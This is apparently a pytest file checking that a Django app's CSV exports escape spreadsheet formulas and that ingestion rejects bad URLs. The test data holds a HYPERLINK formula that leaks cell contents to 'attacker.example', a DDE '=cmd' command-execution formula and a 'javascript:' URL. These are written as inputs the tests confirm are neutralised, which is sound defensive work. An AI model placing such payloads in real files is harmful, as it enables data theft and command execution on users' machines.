"""Issue 10 item 4: a search term or page sent with the public ingest key, and a product name an
editor typed, come out of the CSV exports as text, never as a formula; ingestion refuses URLs
that are neither a path nor an http(s) URL. Real ingestion (Redis stream, drain, PostgreSQL,
rollups) and the real export jobs."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.core import mail

from apps.analytics import buffer, rollups
from apps.analytics.models import ReportExport
from apps.catalog import importer
from apps.catalog.models import CatalogJob
from apps.core import csv_safe
from tests.analytics.conftest import make_event
from tests.catalog.factories import make_product

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://attacker.example/steal?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert csv_safe.safe_cell(value) == expected
    if isinstance(value, str):
        assert csv_safe.restore_cell(csv_safe.safe_cell(value)) == value


def download(client, path):
    return b"".join(client.get(path).streaming_content).decode()


def test_analytics_export_neutralises_ingested_search_terms(
    client, tenant, make_member, send, django_capture_on_commit_callbacks
):
    response = send([make_event("search", query=PAYLOAD, results_count=0)])
    assert response.status_code == 202, response.content
    assert buffer.drain(consumer="t").inserted == 1
    rollups.rebuild_dirty()
    analyst = make_member(tenant, "analyst")
    client.force_login(analyst)
    today = datetime.now(tz=UTC).date()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            f"/a/{tenant.slug}/analytics/exports/",
            {"report": "search-terms", "date_from": today - timedelta(days=1), "date_to": today + timedelta(days=1)},
        )
    assert ReportExport.objects.for_tenant(tenant).get().status == "done"
    link = next(line for line in mail.outbox[0].body.splitlines() if "/exports/" in line)
    rows = list(csv.reader(io.StringIO(download(client, link[link.index("/a/") :]))))
    cells = [cell for row in rows[1:] for cell in row[:2]]
    assert cells and all(cell.startswith("'=") for cell in cells), rows
    assert not any(cell.startswith(csv_safe.FORMULA_PREFIXES) for row in rows for cell in row)


@pytest.mark.parametrize(
    "url", [PAYLOAD, "javascript:alert(1)", "page-without-slash", "mailto:x@example.com", "http:/no-host"]
)
def test_ingestion_refuses_urls_that_are_not_paths_or_web_urls(send, url):
    response = send([make_event(url=url)])
    body = response.json()
    assert body["accepted"] == 0
    assert body["rejected"] == 1 and body["errors"][0]["reason"] == "invalid_url"


@pytest.mark.parametrize("url", ["/s/shop/p/lamp/", "https://shop.example/s/shop/", "http://shop.example"])
def test_ingestion_accepts_paths_and_web_urls(send, url):
    assert send([make_event(url=url)]).json()["accepted"] == 1


def test_catalog_export_neutralises_names_and_reimports_unchanged(
    client, tenant, make_member, django_capture_on_commit_callbacks
):
    make_product(tenant, "=cmd|' /C calc'!A0", variants=[{"sku": "LAMP-1", "price": "3", "options": {"size": "-s"}}])
    client.force_login(make_member(tenant, "editor"))
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/a/{tenant.slug}/catalog/export", {"q": ""})
    job = CatalogJob.objects.for_tenant(tenant).get(kind="export")
    body = download(client, f"/a/{tenant.slug}/catalog/jobs/{job.pk}/download")
    rows = list(csv.reader(io.StringIO(body)))
    assert not any(cell.startswith(csv_safe.FORMULA_PREFIXES) for row in rows for cell in row), rows
    assert "'=cmd|' /C calc'!A0" in rows[1]
    again = importer.import_rows(tenant=tenant, data=body.encode(), mode="skip")
    assert (again.created, again.updated, again.unchanged, again.errors) == (0, 0, 1, [])


def test_import_error_report_is_neutralised(tenant):
    errors = [importer.RowError(2, "name", "=2+3 is not allowed")]
    text = importer.error_report_csv(errors).decode()
    assert "'=2+3" in text
